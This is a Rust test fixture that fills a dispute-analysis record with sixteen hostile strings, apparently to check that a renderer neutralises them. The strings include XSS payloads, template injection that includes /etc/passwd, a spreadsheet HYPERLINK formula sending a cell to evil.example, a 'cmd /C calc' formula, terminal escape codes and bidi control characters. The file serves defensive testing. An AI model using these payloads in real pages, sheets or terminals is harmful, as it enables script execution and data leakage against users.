//! The made-up dispute with an article that tries to break out of the page.
//! `window.pwned` would be set by anything that runs.

use standoff::document::{Filtered, Layout};
use standoff::labels::{Side, Stance};
use standoff::record::{Analysis, Rejected};

use super::{Builder, Who};

/// Texts that try to become code, markup, formulas or orders to a terminal.
pub const ATTACKS: [&str; 16] = [
    "<script>window.pwned=1;alert(1)</script> said the minister.",
    "</script><script>window.pwned=1</script><!-- said the other.",
    "<img src=x onerror=\"window.pwned=1\"> and <svg/onload=window.pwned=1> were announced.",
    "\"><iframe src=\"https://evil.example/\" srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<a href=\"javascript:window.pwned=1\" onclick=\"window.pwned=1\">peace</a> was offered.",
    "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "{{ 7*7 }} {% include \"/etc/passwd\" %} ${7*7} `window.pwned=1`",
    "The minister said \u{202e}desrever saw eht\u{202c} and \u{2066}isolated\u{2069} words.",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\") was the answer.",
    "+1+1|cmd' /C calc'!A0 and @SUM(1+1) too, | a | b | c |",
    "-- \u{1b}[2J\u{1b}]0;owned\u{7} cleared the screen.",
    "]]> --> */ <!--<script> <textarea><noscript><plaintext>",
    "' onmouseover='window.pwned=1' x=' & &lt;script&gt; &#60;b&#62;",
    "**bold** [link](javascript:window.pwned=1) ![img](https://evil.example/t.png) <b>b</b> # heading\n\n| a |\n\n```",
    "Line\u{2028}separator, nul\u{0}, bom\u{feff}, astral 🕊️𝒳, combining e\u{301}\u{301}\u{301}.",
];

/// All of [`ATTACKS`] as statements, titles, speakers, outlets, ids and addresses.
pub fn hostile() -> Analysis {
    let mut b = Builder::new();
    b.analysis.blocs[0].name = "Nor<b>land</b> \u{202e}".into();
    b.analysis.blocs[0].color = "red;}body{display:none}".into();
    b.analysis.blocs[1].color_dark = "url(https://evil.example/)".into();
    b.analysis.setup.model = "<script>window.pwned=1</script>".into();
    let mut ids = [vec![], vec![]];
    for (i, attack) in ATTACKS.iter().enumerate() {
        let id = format!("doc-{i}\"'><script>window.pwned=1</script>");
        let url = [
            "javascript:window.pwned=1",
            "data:text/html,<script>1</script>",
            "https://evil.example/\" onclick=\"window.pwned=1",
            "https://ok.example/a?b=<c>|d",
            "https://ok.example/plain",
        ][i % 5];
        let doc = b.document(
            &id,
            attack,
            (i % 4 != 0).then_some("2031-05-03"),
            Some(url),
            Some(attack),
            Layout::Dump,
        );
        b.filtered(doc, attack, Filtered::Caption);
        for (k, side) in [Side::First, Side::Second].into_iter().enumerate() {
            let words = format!("{attack} ({k})");
            // The braces of the attacks are not marks of this test's own.
            let words = words.replace("{{", "{ {").replace("[[", "[ [");
            let id = b.statement(
                doc,
                &words,
                side,
                0.9,
                Stance::Escalation,
                0.8,
                Some(Who(attack, attack, side)),
            );
            let s = b.analysis.statements.last_mut().unwrap();
            s.language = Some(if i % 5 == 0 {
                "<b>".into()
            } else {
                "en".into()
            });
            s.abstained = i % 7 == 0;
            s.truncated = i % 6 == 0;
            s.extra.insert((*attack).into(), serde_json::json!(attack));
            ids[k].push(id);
        }
    }
    for (i, attack) in ATTACKS.iter().enumerate() {
        let keyword = [*attack];
        let keywords: &[&str] = if i % 2 == 0 { &keyword } else { &[] };
        b.pair(
            &format!("issue-{i}\"><script>"),
            keywords,
            &ids[0][i],
            &ids[1][i],
            0.9,
            true,
            &[attack],
        );
        b.analysis.rejected.push(Rejected {
            source: (*attack).into(),
            error: (*attack).into(),
        });
    }
    b.finish()
}
